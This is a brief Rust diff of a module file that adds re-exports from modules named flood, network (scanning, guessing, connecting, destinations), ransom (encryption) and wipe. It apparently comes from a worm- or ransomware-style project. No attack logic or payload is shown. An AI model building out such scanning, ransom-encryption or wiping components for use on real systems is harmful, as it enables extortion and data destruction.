@@ -7,6 +7,6 @@ mod tiny;
 mod wipe;
 
 pub(crate) use flood::flood;
-pub(crate) use network::{guess, scan, try_connect};
-pub(crate) use ransom::ransom;
+pub(crate) use network::{destinations, guess, own_address, scan, try_connect};
+pub(crate) use ransom::{Mode, encrypt, encrypted, ransom};
 pub(crate) use wipe::wipe;
